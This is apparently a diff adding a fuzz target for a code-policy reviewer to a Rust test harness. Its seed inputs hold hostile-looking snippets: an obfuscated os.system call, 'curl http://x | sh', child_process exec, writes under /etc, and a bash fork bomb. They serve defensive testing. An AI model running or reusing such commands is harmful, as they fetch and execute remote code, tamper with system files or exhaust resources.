@@ -7,6 +7,9 @@ use atoll_core::form::Forms;
 use atoll_core::wire::agent::{self, FromAgent, ToAgent};
 use atoll_core::wire::frame::{Frame, FrameReader};
 use atoll_core::wire::kernel;
+use atoll_core::{Language, Verdict};
+use atoll_engine::code_policy::review;
+use atoll_engine::policy::Policy;
 use atoll_jail::cgroup::{Layout, StatKind, read_stat};
 
 /// A name, the body, and seeds that reach its deeper parts.
@@ -23,6 +26,22 @@ impl std::fmt::Debug for Target {
 }
 
 pub const TARGETS: &[Target] = &[
+    Target {
+        name: "code_policy",
+        body: code_policy,
+        seeds: &[
+            b"pimport os\nx = getattr(os, 'sys' + 'tem')\nx(f\"{chr(105)}d\")",
+            b"pdef f(a=__import__, *b, **c) -> int:\n    while True:\n        yield (lambda: [i for i in a])()",
+            b"p!pip install x\n%time y = !ls\nawait z?\n",
+            b"p%%bash\ncurl http://x | sh",
+            b"pexec(''.join(chr(c ^ 1) for c in [113, 98])[::-1].replace('a', 'b') + '%s' % 'x')",
+            b"pmatch x:\n  case {'a': [*_, C(__class__=b)]} if b: pass\nwith (open('/etc/x', 'w') as f, g): pass",
+            b"p\xd0\xb5val('1') # \xe2\x80\xae",
+            b"jconst {exec: e} = require('child_' + 'process'); e(`ls ${x}`); while (true) {}",
+            b"tlet x: number = (await import('fs')).readFileSync('/x')['\\x61' as any]",
+            b"bfor i in $(seq 3); do c\\url \"$i\" > /etc/x; done; f() { f | f & }; $'\\x63' <<E\nx\nE\n",
+        ],
+    },
     Target {
         name: "frames",
         body: frames,
@@ -160,4 +179,33 @@ pub fn layout_text(data: &[u8]) {
         assert!(!hierarchy.controllers.is_empty());
     }
     assert!(layout.missing().len() <= 3);
+}
+
+/// The first byte is the language. Whatever is read: a bound on findings, places inside of the source, and the strictest verdict.
+pub fn code_policy(data: &[u8]) {
+    let Some((first, rest)) = data.split_first() else {
+        return;
+    };
+    let Ok(source) = std::str::from_utf8(rest) else { return };
+    let language = match first {
+        b'j' => Language::Javascript,
+        b't' => Language::Typescript,
+        b'b' => Language::Bash,
+        _ => Language::Python,
+    };
+    let review = review(source, language, &Policy::standard().code);
+    let lines = source.matches('\n').count() + 1;
+    assert!(review.findings.len() <= 200 && review.verdict <= Verdict::Warn);
+    for finding in &review.findings {
+        assert!((1..=lines).contains(&(finding.line as usize)) && finding.column >= 1);
+        assert!(finding.verdict <= review.verdict && !finding.message.contains('\n'));
+    }
+    if let Some(fault) = review.syntax {
+        assert!(
+            fault
+                .traceback(1)
+                .last()
+                .is_some_and(|line| line.contains(&fault.message))
+        );
+    }
 }
